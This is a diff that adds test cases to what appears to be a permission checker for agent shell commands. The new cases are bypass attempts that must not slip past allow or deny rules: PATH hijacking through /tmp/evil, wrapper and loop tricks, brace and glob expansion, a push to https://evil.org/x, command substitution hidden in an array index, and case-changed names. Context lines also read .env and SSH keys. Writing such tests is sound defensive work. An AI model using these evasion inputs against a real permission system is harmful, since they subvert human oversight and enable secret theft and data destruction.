@@ -99,6 +99,18 @@ describe('a rule that allows commands', () => {
     ['npm test', 'n?m test'],
     ['npm test', 'npm te*'],
     ['npm test', `npm test ${'a '.repeat(40_000)}`],
+    ['npm test', '/usr/bin/time -o x npm test'],
+    ['npm test', '/tmp/evil/env npm test'],
+    ['npm test', './bash -c "npm test"'],
+    ['npm test', 'env -C sub npm test'],
+    ['npm test', 'for PATH in /tmp/evil; do npm test; done'],
+    ['npm test', 'for x in 1; do npm test; done'],
+    ['npm test', 'npm test --{a,b}'],
+    ['npm test', 'npm test src/*(e:x:)'],
+    ['npm test', 'npm test -*'],
+    ['npm test', 'NPM test'],
+    ['git push', 'git push --{force,quiet}'],
+    ['git push', 'git push https://evil.org/x'],
     ['cat', 'cat .env'],
     ['cat', 'cat ~/.ssh/id_rsa'],
     ['cat', 'cat <<E\n$(rm x)\nE'],
@@ -147,12 +159,20 @@ describe('a rule that allows commands', () => {
       'asked',
     ]);
   });
+
+  test('and one more do not let another set the search path', () => {
+    expect(said(allow('npm test', 'read', 'printf'), 'read PATH < x; npm test')).toBe('asked');
+    expect(said(allow('npm test', 'read', 'printf'), 'printf -v PATH /tmp/evil; npm test')).toBe('asked');
+    expect(said(allow('test', 'npm test'), "test -v 'x[$(rm y)]'; npm test")).toBe('asked');
+  });
 });
 
 describe('a rule that denies commands', () => {
   test.each([
     ['rm', 'ls && rm x'],
     ['rm', '/bin/rm x'],
+    ['rm', '/tmp/x/rm x'],
+    ['rm', 'RM x'],
     ['rm', 'env rm x'],
     ['rm', 'bash -c "rm x"'],
     ['rm', 'ls | xargs rm'],
